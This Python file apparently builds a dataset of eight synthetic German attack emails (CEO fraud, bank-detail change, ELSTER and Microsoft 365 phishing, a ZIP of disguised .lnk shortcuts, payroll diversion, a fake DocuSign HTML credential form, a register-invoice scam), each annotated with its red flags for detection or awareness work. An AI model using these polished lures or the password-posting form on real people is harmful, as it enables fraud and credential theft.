"""German attack messages (8)."""
import base64

import banking as B
import content as C
import infra as I
from message import Msg
from mime import plain, html, alt, mixed, attachment, Part
from people import S, BANK, TAXID


def m01():
    text = """Frau Hoffmann,

sind Sie heute Nachmittag noch im Büro erreichbar?

Ich bin bis Freitag in Warschau in den Gesprächen zum Projekt "Weichsel" – der Übernahme eines polnischen Flottenanbieters durch unsere Gruppe. Der Aufsichtsrat ist informiert, die kapitalmarktrechtlichen Fragen klärt gerade die Kanzlei. Bis zum Signing darf intern nichts kommuniziert werden, auch nicht an Herrn Ludwig oder das Treasury.

Für das Signing morgen früh muss heute noch eine Anzahlung auf das Anderkonto der Kanzlei geleistet werden. Herr Edward Langley von Langley Crowther in London begleitet die Transaktion und wird sich gleich mit den Zahlungsdetails bei Ihnen melden. Bitte behandeln Sie seine Anweisungen so, als kämen sie direkt von mir.

Ich sitze den ganzen Nachmittag in Verhandlungen und kann nicht telefonieren. Antworten Sie bitte nur per E-Mail an diese Adresse und bestätigen Sie mir kurz, ob Sie heute noch eine Auslandsüberweisung freigeben können und welches Tageslimit derzeit für Sie gilt.

Danke für Ihre Diskretion.

Matthias Brückner
Vorsitzender der Geschäftsführung
Example Group"""
    body = plain(text, 'UTF-8', '8bit')
    body.params = ['format=flowed']
    return Msg('ceo-fraud-projekt-weichsel', ('Matthias Brückner', 'matthias.brueckner@exarnplegroup.eu'), [S('cfo')],
               'Vertraulich – Projekt Weichsel', (2026, 10, 15, 16, 47, 12), body, I.vps_postfix,
               infra_kw=dict(host='mail.exarnplegroup.eu', ip='51.195.148.77', rdns='vps-3c1e7a2b.vps.ovh.net'),
               henc='Q',
               what='CEO fraud, first stage: "CEO" on a business trip asks the CFO whether she can release a foreign transfer today for a secret acquisition; a "lawyer" will follow.',
               why='Look-alike domain exarnplegroup.eu ("rn" for "m") on an OVH VPS with Roundcube; secrecy incl. bypassing treasury, '
                   'no phone calls, asks for payment limits, announces a third party whose instructions must be obeyed. Continued by the fake lawyer in en-fake-lawyer-escrow.')


def m02():
    iban = BANK['lt_mule']
    text = """Sehr geehrter Herr Weißenfels,

im Zuge des Wechsels unserer Hausbank ändert sich unsere Bankverbindung mit Wirkung zum 01.11.2026. Das bisherige Konto bei der Helaba wird zum Monatsende aufgelöst; Zahlungen dorthin können ab November nicht mehr zugeordnet werden und gehen an Sie zurück.

Bitte hinterlegen Sie ab sofort die neue Verbindung in Ihren Kreditorenstammdaten:

Kontoinhaber: Lieferant GmbH
IBAN: %s
BIC: REVOLT21
Bank: Revolut Bank UAB

Die beiden offenen Rechnungen RE-2026-10412 (4.862,34 €) und RE-2026-10458 (12.317,85 €) bitten wir bereits auf die neue Verbindung zu überweisen. Das Bestätigungsschreiben unserer Geschäftsführung finden Sie im Anhang.

Da unsere Telefonanlage in dieser Woche auf ein neues System umgestellt wird, sind wir telefonisch nur eingeschränkt erreichbar – schicken Sie Rückfragen und die Bestätigung der Umstellung bitte einfach per E-Mail an mich.

Mit freundlichen Grüßen

Petra Lang
Innendienst / Auftragsabwicklung

Lieferant GmbH
Am Sandbach 12 · 40878 Ratingen
Tel. +49 2102 4471-23
www.lieferant-gmbh.de""" % B.fmt_iban(iban)
    pdfdata = C.pdf_doc(
        ['Lieferant GmbH', 'Reifen · Räder · Verschleißteile · Reifenservice  |  Am Sandbach 12 · 40878 Ratingen'],
        ['Example Group GmbH', 'Kreditorenbuchhaltung', 'Speditionstraße 21', '40221 Düsseldorf', '',
         ('Ratingen, 19.10.2026', {'x': 420}), '',
         ('Mitteilung über die Änderung unserer Bankverbindung', {'bold': True, 'size': 12}), '',
         'Sehr geehrte Damen und Herren,', '',
         'hiermit teilen wir Ihnen mit, dass sich unsere Bankverbindung mit Wirkung zum 01.11.2026 ändert.',
         'Bitte leisten Sie alle Zahlungen, auch für bereits gestellte Rechnungen, ausschließlich auf folgendes Konto:', '',
         ('Kontoinhaber:   Lieferant GmbH', {'bold': True}), ('IBAN:   %s' % B.fmt_iban(iban), {'bold': True}),
         ('BIC:   REVOLT21     (Revolut Bank UAB)', {'bold': True}), '',
         'Die bisherige Bankverbindung wird zum 31.10.2026 geschlossen.', '',
         'Mit freundlichen Grüßen', '', '', 'Lieferant GmbH', 'Geschäftsführung'],
        meta=dict(title='Bankverbindung', author='Petra Lang', creator='Microsoft® Word für Microsoft 365',
                  producer='Microsoft® Word für Microsoft 365', date="D:20261019154102+02'00'"),
        footer=['Lieferant GmbH · Sitz Ratingen · Amtsgericht Düsseldorf HRB 61844 · USt-IdNr. %s' % TAXID['lieferant']])
    body = mixed(C.outlook_alt(text, 'windows-1252'),
                 attachment('application/pdf', 'Lieferant_GmbH_neue_Bankverbindung.pdf', pdfdata, fname_style='2047'))
    return Msg('lieferant-lookalike-bankwechsel', ('Petra Lang', 'p.lang@lieferant-gmbh.com'), [S('ap')],
               'Änderung unserer Bankverbindung zum 01.11.2026', (2026, 10, 20, 10, 12, 40), body, I.exchange_online,
               cc=[S('ap2')], infra_kw=dict(region='eur'),
               what='Supplier bank-detail change: "Lieferant GmbH" announces a new account and asks to pay two open invoices there, with an unsigned PDF letter.',
               why='Look-alike domain lieferant-gmbh.com (genuine: lieferant-gmbh.de) on a fresh Microsoft 365 tenant; German supplier suddenly banks at a Lithuanian e-money '
                   'bank (Revolut, LT IBAN); open invoices to be redirected; phone verification discouraged ("Telefonanlage").')


def m03():
    url = 'https://www.elster.de-login-eportal.com/eportal/login/softpse?sid=9f2c61d0a7e84b1c&ref=postfach'
    paras = ['Sehr geehrte Nutzerin, sehr geehrter Nutzer,',
             'in Ihrem ELSTER-Postfach liegt ein neues Dokument für die **Example Group GmbH** (Steuernummer 133/5741/0962) zur Abholung bereit:',
             '**Prüfungsanordnung – Umsatzsteuer-Sonderprüfung gemäß § 27b UStG, Prüfungszeitraum 01/2025 bis 12/2025**',
             'Bitte melden Sie sich innerhalb von 5 Werktagen mit Ihrer Zertifikatsdatei an, um die Anordnung abzurufen und die angeforderten '
             'Unterlagen bereitzustellen. Nach Ablauf der Frist gilt das Dokument als bekanntgegeben (§ 122a AO).',
             'Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.']
    footer = 'ELSTER – Ihr Online-Finanzamt · Bayerisches Landesamt für Steuern · Datenschutz · Impressum'
    body = C.brand_alt('Neue Nachricht in Ihrem ELSTER-Postfach', 'ELSTER', '#00427a', paras,
                       button=('Zum ELSTER-Postfach', url), footer=footer, charset='utf-8', cte='quoted-printable',
                       preheader='Prüfungsanordnung Umsatzsteuer-Sonderprüfung – Abruf erforderlich')
    return Msg('elster-pruefungsanordnung', ('ELSTER – Ihr Online-Finanzamt', 'benachrichtigung@elster-bescheid.de'), [S('cfo')],
               'Neue Nachricht in Ihrem ELSTER-Postfach: Prüfungsanordnung USt-Sonderprüfung', (2026, 10, 13, 7, 58, 31), body,
               I.brevo, hcs='utf-8', henc='Q',
               what='Credential phishing impersonating ELSTER (German tax portal): a VAT special audit order is waiting, log in with the certificate file within 5 days.',
               why='Sent via Brevo from elster-bescheid.de; link to www.elster.de-login-eportal.com (subdomain trick, not elster.de) harvesting the '
                   'ELSTER certificate file and PIN; deadline pressure with § 122a AO.')


def m04():
    text = """Sehr geehrte Damen und Herren,

mit dem auf Sie zugelassenen Kraftfahrzeug, amtliches Kennzeichen D-EG 4417 (VW Passat Variant), wurde am 09.10.2026 um 17:42 Uhr in Düsseldorf, Königsallee/Steinstraße, Fahrtrichtung Graf-Adolf-Platz, folgende Ordnungswidrigkeit begangen:

Sie überschritten die zulässige Höchstgeschwindigkeit innerhalb geschlossener Ortschaften um 23 km/h. Zulässige Geschwindigkeit: 50 km/h. Festgestellte Geschwindigkeit (nach Toleranzabzug): 73 km/h. § 41 Abs. 1 iVm Anlage 2, § 49 StVO; § 24 Abs. 1, 3 Nr. 5 StVG; 11.3.4 BKat.

Als Halter werden Sie gebeten, uns innerhalb von 7 Tagen den verantwortlichen Fahrzeugführer zu benennen bzw. sich zu dem Vorwurf zu äußern. Den Anhörungsbogen sowie das Beweisfoto der Messung haben wir Ihnen als gepacktes Archiv beigefügt. Bitte öffnen Sie die Datei an einem Windows-Arbeitsplatz, da das Beweisfoto aus Datenschutzgründen nur im gesicherten Viewer angezeigt wird.

Bei Fristversäumnis ergeht gegen Sie als Halter ein Kostenbescheid nach § 25a StVG bzw. es wird die Führung eines Fahrtenbuchs nach § 31a StVZO angeordnet.

Mit freundlichen Grüßen
Im Auftrag

K. Brenner
Landeshauptstadt Düsseldorf
Ordnungsamt - Bußgeldstelle
Az.: 52.3-OWi 2026/184417"""
    z = C.zip_placeholder(['Beweisfoto_D-EG4417_20261009.jpg.lnk', 'Anhoerungsbogen_52.3-OWi-2026-184417.pdf.lnk'],
                          (2026, 10, 22, 7, 58, 12))
    body = mixed(plain(text, 'iso-8859-15', '8bit'),
                 attachment('application/zip', 'Anhoerung_Beweisfoto_D-EG4417.zip', z))
    return Msg('bussgeld-anhoerung-zip-lnk', ('Landeshauptstadt Düsseldorf - Bußgeldstelle', 'anhoerung@bussgeldstelle-duesseldorf.de'),
               [S('fleet')], 'Anhörung im Bußgeldverfahren – Az. 52.3-OWi 2026/184417 – Kennzeichen D-EG 4417',
               (2026, 10, 22, 8, 3, 51), body, I.vps_postfix,
               infra_kw=dict(host='mail.bussgeldstelle-duesseldorf.de', ip='173.249.17.204', rdns='vmi2274188.contaboserver.net',
                             webmail_ip='127.0.0.1', ua='PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)'),
               hcs='iso-8859-15', henc='Q',
               what='Fake speeding-fine hearing (Anhörungsbogen) for a rental car, with "evidence photo" in a ZIP.',
               why='Trade lure (rental fleets get many fines), but from look-alike bussgeldstelle-duesseldorf.de on a Contabo VPS (genuine: duesseldorf.de, '
                   'and hearings come by post); ZIP holds Windows shortcuts disguised as .jpg/.pdf (.jpg.lnk); "open on Windows only"; '
                   '§ 25a StVG (parking only) misapplied to speeding.')


def m05():
    email_b64 = base64.b64encode(b'katrin.mueller-oezdemir@example.com').decode()
    qr_url = 'https://auth.m365-sicherheit.de/kmsi/reauth?u=%s' % email_b64
    pdfdata = C.pdf_doc(
        ['Microsoft 365', 'Example Group · Sicherheits- und Compliance-Center'],
        [('Erneute Registrierung der Multi-Faktor-Authentifizierung (MFA)', {'bold': True, 'size': 12}), '',
         'Konto: katrin.mueller-oezdemir@example.com', 'Status: Registrierung abgelaufen – Reaktivierung erforderlich bis 30.10.2026', '',
         'Aufgrund der Umstellung auf die neue Richtlinie für Anmeldemethoden müssen alle Benutzer ihre',
         'Authenticator-Registrierung bestätigen. Nicht bestätigte Konten werden nach Fristablauf gesperrt.', '',
         'So gehen Sie vor:', '1. Öffnen Sie die Kamera Ihres Smartphones.', '2. Scannen Sie den QR-Code rechts.',
         '3. Melden Sie sich mit Ihrem Example-Group-Kennwort an und bestätigen Sie die Anfrage in der App.', '',
         'Aus Sicherheitsgründen kann die Registrierung nur auf dem Mobilgerät abgeschlossen werden.', '', '',
         ('Microsoft Corporation · One Microsoft Way · Redmond, WA 98052', {'size': 7, 'gray': 0.4})],
        meta=dict(title='MFA Reaktivierung', creator='Microsoft Word', producer='Microsoft: Print To PDF', date="D:20261027074012+01'00'"),
        qr_text=qr_url, qr_pos=(222, 330, 150))
    text = ('Guten Tag Frau Müller-Özdemir,\n\n'
            'gemäß der neuen Sicherheitsrichtlinie für Microsoft 365 ist die Registrierung Ihrer Anmeldemethode abgelaufen. '
            'Um eine Sperre Ihres Postfachs zu vermeiden, führen Sie die Reaktivierung bitte bis zum 30.10.2026 durch.\n\n'
            'Die Anleitung mit Ihrem persönlichen QR-Code finden Sie im Anhang. Scannen Sie den Code mit Ihrem Smartphone.\n\n'
            'Ihr IT-Service')
    body = mixed(alt(plain(text, 'utf-8', 'base64'), html(C.simple_html(text), 'utf-8', 'base64')),
                 attachment('application/pdf', 'MFA_Reaktivierung_katrin.mueller-oezdemir.pdf', pdfdata))
    m = Msg('quishing-mfa-pdf-qr', ('Microsoft 365 Sicherheit', 'no-reply@m365-sicherheit.de'), [S('hr')],
            'Handlungsbedarf: MFA-Registrierung für katrin.mueller-oezdemir@example.com läuft am 30.10.2026 ab',
            (2026, 10, 27, 7, 41, 2), body, I.mailgun, infra_kw=dict(domain='mg.m365-sicherheit.de'), hcs='utf-8', henc='B',
            what='Quishing: "Microsoft 365" MFA re-registration deadline; the link is only a QR code inside a PDF attachment.',
            why='Mailgun from look-alike m365-sicherheit.de; QR code (in the PDF, invisible to URL scanners) leads to auth.m365-sicherheit.de with the '
                'victim\'s address base64-encoded (AiTM credential/MFA phishing); forces use of an unmanaged phone; lockout threat.')
    m.qr_texts = [qr_url]
    return m


def m06():
    iban = BANK['n26_mule']
    text = """Hallo Frau Müller-Özdemir,

ich habe mein Gehaltskonto zur N26 gewechselt und möchte Sie bitten, die Novemberabrechnung bereits auf die neue Verbindung zu überweisen:

Kontoinhaberin: Melanie Schröder
IBAN: %s
BIC: NTSBDEB1XXX

Ich schreibe von meiner privaten Adresse, weil ich diese Woche bei Kunden in Süddeutschland unterwegs bin und mein Laptop gerade keine VPN-Verbindung bekommt. Können Sie mir kurz per E-Mail bestätigen, dass die Änderung noch im aktuellen Abrechnungslauf berücksichtigt wird? Telefonisch bin ich wegen der Termine leider schlecht erreichbar.

Vielen Dank und viele Grüße
Melanie Schröder
Key Account Management Flottenleasing
Example Group""" % B.fmt_iban(iban)
    body = plain(text, 'UTF-8', 'quoted-printable')
    body.qcs = True
    return Msg('payroll-diversion-webde', ('Melanie Schröder', 'melanie.schroeder.eg@web.de'), [S('hr')],
               'Neue Bankverbindung für die Gehaltszahlung', (2026, 11, 18, 21, 12, 5), body, I.gmx,
               infra_kw=dict(provider='webde', client_ip='37.120.217.90'),
               reply_to=('Melanie Schröder', 'm.schroeder-privat@proton.me'), hcs='UTF-8', henc='Q',
               what='Payroll diversion: "employee" asks HR from a private web.de address to pay her salary to a new N26 account from this month.',
               why='Free-mail address not on file, Reply-To to a different proton.me mailbox, sent from a VPN/hosting IP the evening before the payroll cut-off; '
                   'bypasses the HR self-service process and refuses phone verification.')


def m07():
    form_url = 'https://review-docusign.eu-docs.top/auth/submit.php'
    att = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>DocuSign – Dokument prüfen</title>
<style>body{font-family:Arial,Helvetica,sans-serif;background:#f4f4f4;margin:0}.bar{background:#1e1e1e;color:#fff;padding:14px 24px;font-weight:bold}
.box{max-width:420px;margin:60px auto;background:#fff;padding:28px;border-top:4px solid #ffc820}
input{width:100%;padding:10px;margin:8px 0;border:1px solid #bbb;box-sizing:border-box}button{background:#ffc820;border:0;padding:12px 20px;font-weight:bold;width:100%}
</style></head><body><div class="bar">DocuSign</div><div class="box">
<h3>Leasing-Rahmenvertrag 2027_Example Group_final.pdf</h3>
<p>Zum Anzeigen des geschützten Dokuments bestätigen Sie bitte Ihre E-Mail-Adresse und Ihr Kennwort.</p>
<form method="post" action="{FORM}">
<input type="email" name="login" value="melanie.schroeder@examplegroup.eu">
<input type="password" name="passwd" placeholder="Kennwort">
<button type="submit">Dokument anzeigen</button></form>
<p style="font-size:11px;color:#777">Gesichert durch DocuSign Envelope ID 7C1A9E44-2B0D-4F61-9A3E-55D0B71C8E12</p>
</div></body></html>
""".replace('{FORM}', form_url)
    paras = ['Bernd Kaiser (Autohaus Rheinland GmbH) hat Ihnen ein Dokument zum Prüfen und Unterzeichnen gesendet.',
             '**Leasing-Rahmenvertrag 2027_Example Group_final.pdf** (4 Seiten)',
             'Aus Sicherheitsgründen wurde das Dokument als verschlüsselte Datei an diese E-Mail angehängt. Öffnen Sie die Anlage, '
             'um den Vertrag anzuzeigen und zu signieren.',
             'Diese Nachricht enthält einen sicheren Link zu DocuSign. Bitte geben Sie diesen Zugangscode nicht an Dritte weiter.']
    footer = 'Über DocuSign: Unterzeichnen Sie Dokumente elektronisch in nur wenigen Minuten. Es ist sicher.'
    body = mixed(C.brand_alt('Bitte prüfen und unterzeichnen Sie dieses Dokument', 'DocuSign', '#1e1e1e', paras, footer=footer,
                             charset='utf-8', cte='quoted-printable', logo_text='DocuSign'),
                 attachment('text/html', 'Leasing-Rahmenvertrag_2027_DocuSign_Secure.html', att.encode('utf-8'), charset='utf-8'))
    return Msg('docusign-html-anhang', ('Autohaus Rheinland GmbH via DocuSign', 'dse@docusign-eu-services.com'), [S('sales')],
               'Bitte mit DocuSign unterzeichnen: Leasing-Rahmenvertrag 2027_Example Group_final.pdf', (2026, 11, 4, 14, 22, 9), body,
               I.ses, infra_kw=dict(mailfrom='bounce.docusign-eu-services.com'), hcs='utf-8', henc='Q',
               what='Fake DocuSign envelope "from" the dealer Autohaus Rheinland with the contract as an HTML attachment.',
               why='Not DocuSign infrastructure (Amazon SES, look-alike docusign-eu-services.com); DocuSign never attaches the document as HTML; the '
                   'attachment is a credential form (pre-filled address) posting to review-docusign.eu-docs.top.')


def m08():
    iban = BANK['register_scam']
    pdfdata = C.pdf_doc(
        ['DRG Deutsches Register für Gewerbetreibende', 'DRG Verzeichnisdienste · Postfach 10 14 72 · 20009 Hamburg · www.drg-gewerberegister.de'],
        ['Example Group GmbH', 'Speditionstraße 21', '40221 Düsseldorf', '',
         C.cols((56, 'Rechnungs-/Vorgangs-Nr.: DRG-2026-118743'), (360, 'Datum: 26.10.2026'), bold=True),
         C.cols((56, 'Registergericht: Amtsgericht Düsseldorf'), (360, 'HRB 80417')), '',
         ('Eintragung Gewerbeverzeichnis 2026/2027', {'bold': True, 'size': 12}), '',
         C.cols((56, 'Pos.'), (90, 'Leistung'), (-539, 'Betrag'), bold=True, rule=True),
         C.cols((56, '1'), (90, 'Eintragung Firmendaten, Branche Autovermietung/Leasing'), (-539, '698,00 €')),
         C.cols((56, '2'), (90, 'Bearbeitungsgebühr'), (-539, '0,00 €')),
         C.cols((90, 'Netto'), (-539, '698,00 €')), C.cols((90, 'USt. 19 %'), (-539, '132,62 €')),
         C.cols((90, 'Gesamtbetrag'), (-539, '830,62 €'), bold=True), '',
         'Zahlbar bis 10.11.2026 ohne Abzug auf folgendes Konto:',
         ('IBAN: %s   BIC: HYVEDEMM483   Verwendungszweck: DRG-2026-118743' % B.fmt_iban(iban), {'bold': True}), '', '',
         ('Hinweis: Dies ist ein Angebot. Mit Zahlung des Betrages kommt ein Vertrag über die Eintragung im privaten Verzeichnis', {'size': 6.5, 'gray': 0.45}),
         ('www.drg-gewerberegister.de für eine Laufzeit von 3 Jahren zustande (jährlich 698,00 € netto). Keine Verbindung zu amtlichen Registern.', {'size': 6.5, 'gray': 0.45})],
        meta=dict(title='Rechnung DRG-2026-118743', creator='Microsoft Word', producer='GPL Ghostscript 9.55.0', date="D:20261026090211+01'00'"))
    text = """Sehr geehrte Damen und Herren,

anbei erhalten Sie die Rechnung Nr. DRG-2026-118743 über die Eintragung Ihres Unternehmens Example Group GmbH (Amtsgericht Düsseldorf, HRB 80417) in das Gewerbeverzeichnis 2026/2027.

Wir bitten um Ausgleich des Rechnungsbetrages von 830,62 EUR bis zum 10.11.2026 unter Angabe der Vorgangsnummer.

Mit freundlichen Grüßen
DRG Verzeichnisdienste
Abteilung Rechnungswesen"""
    body = mixed(plain(text, 'iso-8859-1', 'base64'),
                 attachment('application/pdf', 'Rechnung_DRG-2026-118743.pdf', pdfdata))
    return Msg('register-offertenrechnung', ('DRG Deutsches Register', 'rechnung@drg-gewerberegister.de'), [S('ap2')],
               'Rechnung Nr. DRG-2026-118743 – Eintragung Example Group GmbH, HRB 80417', (2026, 10, 26, 9, 14, 33), body,
               I.vps_postfix, infra_kw=dict(host='mail.drg-gewerberegister.de', ip='49.13.88.151', rdns='static.151.88.13.49.clients.your-server.de',
                                            webmail_ip='88.130.172.14', ua='Microsoft Outlook 16.0'),
               hcs='iso-8859-1', henc='Q',
               what='Fake "register" invoice: payment request for an entry in a private trade directory styled like an official register invoice.',
               why='Offer disguised as invoice (never ordered; small print reveals a 3-year contract, "no connection to official registers"); '
                   'uses public Handelsregister data; Hetzner VPS; Outlook X-Mailer with a non-Outlook Message-ID.')


def messages():
    return [m01(), m02(), m03(), m04(), m05(), m06(), m07(), m08()]
